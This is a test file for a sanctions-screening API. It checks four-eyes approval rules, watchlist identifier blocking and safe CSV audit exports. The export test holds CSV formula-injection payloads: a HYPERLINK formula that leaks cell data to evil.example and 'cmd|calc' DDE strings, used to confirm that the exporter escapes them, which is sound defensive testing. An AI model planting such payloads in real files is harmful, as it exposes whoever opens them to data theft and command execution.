import { Readable } from 'node:stream';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { verifyExportStream } from '../../src/audit/verify-export.js';
import { api, screen } from '../helpers/cases-fixtures.js';
import { listEntry, loadTestList } from '../helpers/list-fixtures.js';
import { bearer, createTestApp, FIXED_NOW, type TestApp } from '../helpers/test-app.js';

/**
 * The three stories of issue 16, as a compliance officer tried them: each of them went through
 * before, and must not now.
 */
let t: TestApp;
const EMAIL = 'sang.man.kim@listed.example';
const WALLET = '0x7f1e000000000000000000000000000000000b0b';
const LISTED = listEntry({
  sourceId: 'STORY-1',
  name: 'KIM, Sang Man',
  birthDates: [{ value: '1961-08-12' }],
  identifiers: [
    { kind: 'email', value: EMAIL, normalized: EMAIL },
    { kind: 'wallet', value: WALLET, normalized: WALLET, currency: 'ETH' },
  ],
});

let clock = FIXED_NOW.getTime();
beforeAll(async () => {
  t = await createTestApp({
    beforeBuild: async (database) => {
      await loadTestList(database.db, 'story-watchlist', [LISTED]);
    },
    appDeps: { now: () => new Date((clock += 1000)) },
  });
});
afterAll(() => t.close());

const json = (body: unknown) => JSON.stringify(body);
type HitBody = { ruleId: string; field: string; entry?: { sourceId: string }; previouslyCleared?: boolean; suppressedBy?: { caseId: string; disposition: string }; forcesBlock?: boolean };

describe('story 1: one reviewer whitelisted a designated wallet by clearing a name match', () => {
  test('clearing the name-only case takes a second person; the same externalRef screened with the listed e-mail and wallet is blocked, only the reviewed name hit suppressed', async () => {
    const nameOnly = { externalRef: 'story-1', name: 'Sang Man Kim', birthDate: '1963-02-03' };
    const first = await screen(t, nameOnly);
    expect(first.outcome).toBe('review');

    const alone = await api(t, t.keys.reviewer).post(`/v1/cases/${first.caseId}/disposition`, { disposition: 'false_positive', note: 'Different birth year.' });
    expect(alone.body.case, json(alone.body)).toMatchObject({ status: 'pending_approval', pendingDisposition: 'false_positive' });
    const approved = await api(t, t.keys.admin).post(`/v1/cases/${first.caseId}/approve`, { note: 'Checked: 1963 vs 1961, other village.' });
    expect(approved.body.case, json(approved.body)).toMatchObject({ status: 'closed', disposition: 'false_positive' });

    const withIdentifiers = { ...nameOnly, emails: [EMAIL], payment: { method: 'crypto', wallets: [WALLET] } };
    const again = await screen(t, withIdentifiers);
    expect(again.outcome, json(again)).toBe('block');
    expect(again.caseId, 'a case opens for the listed identifiers').not.toBeNull();
    const hits = again.hits as HitBody[];
    const identifierHits = hits.filter((hit) => hit.entry?.sourceId === 'STORY-1' && hit.ruleId !== 'list-name-match');
    expect(identifierHits.map((hit) => hit.field).sort(), json(hits)).toEqual(['/subject/emails/0', '/subject/payment/wallets/0']);
    expect(identifierHits.every((hit) => hit.previouslyCleared === undefined)).toBe(true);
    expect(hits.find((hit) => hit.ruleId === 'list-name-match')).toMatchObject({ previouslyCleared: true, suppressedBy: { caseId: first.caseId, disposition: 'false_positive' } });

    // The same profile under a new externalRef: the same outcome, the memory changes nothing that matters.
    const fresh = await screen(t, { ...withIdentifiers, externalRef: 'story-1-new' });
    expect(fresh.outcome).toBe('block');
  });

  test('a screener who reuses the cleared externalRef for another name gets no suppression', async () => {
    const reused = await screen(t, { externalRef: 'story-1', name: 'Kim Sang-man', birthDate: '1963-02-03' });
    const nameHit = (reused.hits as HitBody[]).find((hit) => hit.ruleId === 'list-name-match');
    expect(nameHit, json(reused.hits)).toBeDefined();
    expect(nameHit!.previouslyCleared).toBeUndefined();
    expect(reused.outcome).not.toBe('clear');
  });
});

describe('story 2: an admin approved its own proposal with a second key it made for itself', () => {
  test('a key minted by the proposer, under any owner name, cannot approve: 409 naming the rule; a real second person can', async () => {
    const block = await screen(t, { externalRef: 'story-2', name: 'Someone Else', emails: [EMAIL] });
    expect(block.outcome).toBe('block');
    const admin = api(t, t.keys.admin);
    const proposed = await admin.post(`/v1/cases/${block.caseId}/disposition`, { disposition: 'cleared', note: 'Shared mailbox, not the listed person.' });
    expect(proposed.body.case, json(proposed.body)).toMatchObject({ status: 'pending_approval', pendingDisposition: 'cleared' });

    const adminOwner = (await admin.get('/v1/me')).body.owner as string;
    for (const [owner, type] of [
      ['Second Reviewer (made up)', 'four-eyes-key-lineage'],
      [adminOwner.toUpperCase(), 'four-eyes-same-owner'],
    ] as const) {
      const minted = await admin.post('/v1/api-keys', { roles: ['reviewer'], owner });
      expect(minted.status, json(minted.body)).toBe(201);
      const selfApproval = await api(t, minted.body.key).post(`/v1/cases/${block.caseId}/approve`, { note: 'Looks fine.' });
      expect(selfApproval.status, json(selfApproval.body)).toBe(409);
      expect(selfApproval.headers['content-type']).toContain('application/problem+json');
      expect(selfApproval.body.type).toBe(`https://redflag.dev/problems/${type}`);
      expect(selfApproval.body.detail).toMatch(/^Four-eyes \((key lineage|same owner)\)/);
    }
    // A key minted by the minted key is no better.
    const minted = await admin.post('/v1/api-keys', { roles: ['admin'], owner: 'Intermediary' });
    const grandchild = await api(t, minted.body.key).post('/v1/api-keys', { roles: ['reviewer'], owner: 'Grandchild' });
    expect((await api(t, grandchild.body.key).post(`/v1/cases/${block.caseId}/approve`, {})).body.type).toBe('https://redflag.dev/problems/four-eyes-key-lineage');
    expect((await admin.get(`/v1/cases/${block.caseId}`)).body.status).toBe('pending_approval');

    const events = (await admin.get(`/v1/cases/${block.caseId}/events`)).body.items as { type: string }[];
    expect(events.map((event) => event.type)).toEqual(['opened', 'disposition_proposed']);

    const realSecondPerson = await api(t, t.keys.reviewer).post(`/v1/cases/${block.caseId}/approve`, { note: 'Agreed.' });
    expect(realSecondPerson.status, json(realSecondPerson.body)).toBe(200);
    expect(realSecondPerson.body.case).toMatchObject({ status: 'closed', disposition: 'cleared' });
    expect(realSecondPerson.body.event.actor).toMatchObject({ owner: 'reviewer of default' });
  });
});

describe('story 3: a CSV export ran formulas when opened in a spreadsheet', () => {
  const REFS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+cmd|calc', '@SUM(1,2)', '-2+3+cmd|calc'];

  const download = (format: 'csv' | 'ndjson') =>
    request(t.app.server)
      .get(`/v1/audit/decisions/export?format=${format}`)
      .set(bearer(t.keys.auditor))
      .buffer(true)
      .parse((response, callback) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => callback(null, Buffer.concat(chunks)));
      });

  test('cells that start a formula get a leading apostrophe, the file still verifies offline, and NDJSON keeps the values byte for byte', async () => {
    for (const externalRef of REFS) await screen(t, { externalRef, name: 'Maria Kowalska' });

    const csv = await download('csv');
    expect(csv.status).toBe(200);
    const text = (csv.body as Buffer).toString('utf8');
    for (const ref of REFS) {
      const quoted = /[",]/.test(ref) ? `"'${ref.replaceAll('"', '""')}"` : `'${ref}`;
      expect(text, ref).toContain(`,${quoted},clear,`);
    }
    expect(text).not.toMatch(/,[=+@-][^,]*,clear,/);
    const verified = await verifyExportStream(Readable.from([csv.body as Buffer]));
    expect(verified, json(verified.problems)).toMatchObject({ ok: true, format: 'csv' });

    const ndjson = await download('ndjson');
    const refs = (ndjson.body as Buffer)
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .slice(0, -1)
      .map((line) => (JSON.parse(line) as { externalRef: string | null }).externalRef);
    for (const ref of REFS) expect(refs).toContain(ref);
    expect((await verifyExportStream(Readable.from([ndjson.body as Buffer]))).ok).toBe(true);
  });
});
